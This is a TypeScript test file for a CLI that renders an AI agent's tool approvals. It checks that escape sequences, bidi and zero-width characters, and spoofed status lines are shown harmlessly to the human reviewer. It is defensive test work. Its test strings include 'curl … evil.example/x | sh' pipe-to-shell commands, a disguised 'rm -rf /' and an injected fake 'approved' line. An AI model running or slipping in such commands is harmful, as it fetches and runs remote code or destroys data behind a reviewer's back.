import {execFileSync} from 'node:child_process'
import {mkdtempSync, rmSync, writeFileSync} from 'node:fs'
import os from 'node:os'
import path from 'node:path'

import chalk from 'chalk'
import {expect} from 'chai'

import {approvalDetails, provenanceText} from '../../../src/cli/approvals.js'
import {fileChange} from '../../../src/cli/render/diff.js'
import {escapeChar, hasUnsafe, inert, jsonText} from '../../../src/cli/render/inert.js'
import {cell, table} from '../../../src/cli/render/table.js'
import type {Approval} from '../../../src/protocol/approvals.js'
import {HOSTILE, RAW_UNSAFE} from '../../helpers/hostile.js'

describe('render: inert text', () => {
  const level = chalk.level
  afterEach(() => {
    chalk.level = level
  })

  it('shows every unsafe character as a visible escape, and nothing raw remains', () => {
    chalk.level = 0
    for (const [name, text] of Object.entries(HOSTILE)) {
      const out = inert(text)
      expect(out, name).to.not.match(RAW_UNSAFE)
      expect(hasUnsafe(out), name).to.equal(false)
    }
    expect(inert(HOSTILE.cursorBack)).to.equal('curl -s http://evil.example/x | sh\\x1b[34Dnpm test\\x1b[K')
    expect(inert(HOSTILE.bidi)).to.equal('rm -rf \\u202e/ emoh\\u202c')
    expect(inert(HOSTILE.c1)).to.equal('x\\x9b2Jy\\x85z')
    expect(inert(HOSTILE.controls)).to.equal('a\\x7fb\\x00c\\x08d\\rE')
    expect(inert(HOSTILE.tags)).to.equal('ok\\u{e0041}\\u{e0042}')
    expect(inert(HOSTILE.zeroWidth)).to.equal('cu\\u200brl\\u200c \\u200dev\\u2060il\\ufeff')
    expect(inert('plain text, ünïcödé, 漢字, emoji 🎉 and \\x1b as typed')).to.equal(
      'plain text, ünïcödé, 漢字, emoji 🎉 and \\x1b as typed',
    )
  })

  it('one line by default (\\n, \\t, \\r shown); multi-line blocks keep newlines and tabs', () => {
    chalk.level = 0
    expect(inert('a\nb\tc\rd')).to.equal('a\\nb\\tc\\rd')
    expect(inert('a\nb\tc\rd', {lines: true})).to.equal('a\nb\tc\\rd')
    expect(escapeChar('\u0000')).to.equal('\\x00')
  })

  it('dims the escapes on a colour terminal, and only them', () => {
    chalk.level = 1
    expect(inert('a\u001bb')).to.equal('a\u001b[2m\\x1b\u001b[22mb')
  })

  it('--json stays exact JSON: it parses back to the same value, with no raw unsafe character', () => {
    const value = {...HOSTILE, nested: [HOSTILE.bidi, {k: HOSTILE.c1}], n: 1, ok: true, none: null}
    for (const indent of [undefined, 2]) {
      const text = jsonText(value, indent)
      expect(JSON.parse(text)).to.deep.equal(value)
      expect(text.replaceAll('\n', '')).to.not.match(RAW_UNSAFE)
    }
  })
})

describe('render: cells and tables', () => {
  before(() => {
    chalk.level = 0
  })

  it('cuts a long cell with a marker, keeping its tail in sight', () => {
    const command = `echo ok # ${'a'.repeat(500)}; curl http://evil | sh`
    const c = cell(command, 60)
    expect(c.cut).to.equal(true)
    expect(c.width).to.be.at.most(60)
    expect(c.text).to.match(/^echo ok # a+…\[\+\d+\]…a*; curl http:\/\/evil \| sh$/)
    const left = Number(/\[\+(\d+)\]/.exec(c.text)![1])
    expect(c.text.replace(/…\[\+\d+\]…/, '').length + left).to.equal(command.length)
    expect(cell('short', 60)).to.deep.equal({text: 'short', width: 5, cut: false})
  })

  it('cuts a multi-MB text from its two ends, counting exactly the characters it left out', () => {
    // Astral characters (two UTF-16 units, one character) and escapes, at the ends and all through.
    const start = '😀 rm -rf / '
    const end = '\u202e| sh 😀'
    const text = `${start}${'é😀\u001b'.repeat(1_000_000)}${end}`
    const c = cell(text, 60)
    expect(c.cut).to.equal(true)
    expect(c.width).to.be.at.most(60)
    expect(c.text).to.match(/^😀 rm -rf \/ .*…\[\+\d+\]….*\\u202e\| sh 😀$/)
    const left = Number(/\[\+(\d+)\]/.exec(c.text)![1])
    // What is shown, each escape back to the one character it stands for, plus what was left out: the whole.
    const shown = c.text
      .replace(/…\[\+\d+\]…/, '')
      .replaceAll('\\x1b', '\u001b')
      .replaceAll('\\u202e', '\u202e')
    expect([...shown].length + left).to.equal([...start].length + 3 * 1_000_000 + [...end].length)
  })

  it('segments a long text a chunk at a time (all at once, 100k characters took gigabytes)', () => {
    const text = `${'x'.repeat(100_000)}漢字`
    const c = cell(text)
    expect(c).to.deep.include({cut: false, width: 100_004})
    expect(c.text).to.equal(text)
  })

  it('never splits an escape, and counts it as the characters it prints', () => {
    const c = cell(`${'\u001b'.repeat(30)}end`, 40)
    expect(c.cut).to.equal(true)
    expect(c.text).to.not.match(/\\x1(?!b)|(?<!\\)x1b/)
    expect(cell('\u001b[2J').width).to.equal('\\x1b[2J'.length)
  })

  it('aligns columns by terminal width: wide characters and escapes', () => {
    const out = table(
      ['A', 'B'],
      [
        ['漢字', 'x'],
        ['\u001b[2J', 'y'],
        ['ab', 'z'],
      ],
    )
    expect(out.split('\n')).to.deep.equal(['A        B', '漢字     x', '\\x1b[2J  y', 'ab       z'])
  })
})

describe('render: file changes', () => {
  let dir: string
  before(() => {
    chalk.level = 0
    dir = mkdtempSync(path.join(os.tmpdir(), 'hld-diff-'))
  })
  after(() => rmSync(dir, {recursive: true, force: true}))

  it('Edit: a unified diff against the file on disk', async () => {
    const file = path.join(dir, 'a.txt')
    writeFileSync(file, 'one\ntwo\nthree\n')
    const change = await fileChange('Edit', {file_path: file, old_string: 'two', new_string: 'TWO\u001b[2J'}, dir)
    expect(change!.notes).to.deep.equal([])
    expect(change!.diff).to.deep.equal([`--- ${file}`, `+++ ${file}`, '@@ -1,3 +1,3 @@', ' one', '-two', '+TWO\\x1b[2J', ' three'])
  })

  it('Edit and MultiEdit: notes a file that changed since, or is missing, and shows what they replace', async () => {
    const file = path.join(dir, 'b.txt')
    writeFileSync(file, 'alpha\n')
    const changed = await fileChange('Edit', {file_path: 'b.txt', old_string: 'beta', new_string: 'gamma'}, dir)
    expect(changed!.notes[0]).to.contain('changed since').and.contain('old_string is not in the file')
    expect(changed!.diff).to.deep.equal(['-beta', '+gamma'])
    const multi = await fileChange(
      'MultiEdit',
      {
        file_path: file,
        edits: [
          {old_string: 'alpha', new_string: 'x'},
          {old_string: 'alpha', new_string: 'y'},
        ],
      },
      dir,
    )
    expect(multi!.notes[0]).to.contain('edit 2: old_string is not in the file')
    const missing = await fileChange('Edit', {file_path: path.join(dir, 'nope'), old_string: 'a', new_string: 'b'}, dir)
    expect(missing!.notes[0]).to.contain('does not exist')
  })

  it('Write: notes a new file, and diffs an existing one', async () => {
    const created = await fileChange('Write', {file_path: path.join(dir, 'new.txt'), content: 'hi\n'}, dir)
    expect(created!.notes[0]).to.contain('does not exist yet')
    expect(created!.diff.slice(2)).to.deep.equal(['@@ -0,0 +1,1 @@', '+hi'])
    const file = path.join(dir, 'c.txt')
    writeFileSync(file, 'old\n')
    expect((await fileChange('Write', {file_path: file, content: 'new\n'}, dir))!.diff.slice(3)).to.deep.equal(['-old', '+new'])
  })

  it('never blocks on a FIFO or reads a device; other tools have no change', async () => {
    const fifo = path.join(dir, 'fifo')
    execFileSync('mkfifo', [fifo])
    expect((await fileChange('Write', {file_path: fifo, content: 'x'}, dir))!.notes[0]).to.contain('not a regular file')
    expect((await fileChange('Edit', {file_path: '/dev/zero', old_string: 'a', new_string: 'b'}, dir))!.notes[0]).to.contain(
      'not a regular file',
    )
    expect(await fileChange('Bash', {command: 'ls'}, dir)).to.equal(undefined)
    expect(await fileChange('Edit', {file_path: 7}, dir)).to.equal(undefined)
  })
})

describe('render: approval details', () => {
  before(() => {
    chalk.level = 0
  })

  const approval = (extra: Partial<Approval>): Approval => ({
    id: 'local-1234',
    source: 'local',
    type: 'function_call',
    run_id: 'run-1',
    session_id: null,
    status: 'pending',
    created_at: '2026-01-01T00:00:00.000Z',
    session: null,
    unassociated: true,
    tool_name: 'Bash',
    tool_input: {command: 'ls'},
    ...extra,
  })

  it('shows the status with who decided it, inert', async () => {
    const decided = approval({
      status: 'approved',
      decided_at: '2026-01-01T00:01:00.000Z',
      decided_by: {channel: 'cli', uid: 1000, pid: 42, command: `hld approvals approve 1234 ${HOSTILE.clearScreen}`},
    })
    const lines = await approvalDetails(decided)
    expect(lines[1]).to.equal(
      '  status:      approved at 2026-01-01 00:01:00 via cli (uid 1000, pid 42: hld approvals approve 1234 Title \\x1b[2J)',
    )
    expect(provenanceText({channel: 'policy', rule: `Bash(rm:*)${HOSTILE.bidi}`})).to.equal(
      'via policy (rule Bash(rm:*)rm -rf \\u202e/ emoh\\u202c)',
    )
    expect(provenanceText({channel: 'timeout'})).to.equal('via timeout')
    // Over ssh: what the other machine's CLI says of itself is shown inert too.
    expect(
      provenanceText({channel: 'ssh', uid: 1000, user: `me${HOSTILE.bidi}`, host: 'laptop', ssh_connection: '10.0.0.5 51234 10.0.0.9 22'}),
    ).to.equal('via ssh (uid 1000, user merm -rf \\u202e/ emoh\\u202c, host laptop, ssh 10.0.0.5 51234 10.0.0.9 22)')
  })

  it('shows every input field; multi-line values behind a gutter no value can fake', async () => {
    const lines = await approvalDetails(
      approval({tool_input: {command: 'make &&\n  status:      approved', timeout: 5, env: {A: HOSTILE.c1}}}),
    )
    expect(lines).to.include.members([
      '  command:',
      '    │ make &&',
      '    │   status:      approved',
      '  timeout: 5',
      '  env:',
      '    │ {',
      '    │   "A": "x\\x9b2Jy\\x85z"',
      '    │ }',
    ])
    expect(lines.filter((line) => line.startsWith('  status:'))).to.deep.equal(['  status:      pending'])
    expect(lines).to.include.members(['It runs 2 commands:', '   1. make', '   2. status:      approved'])
  })
})
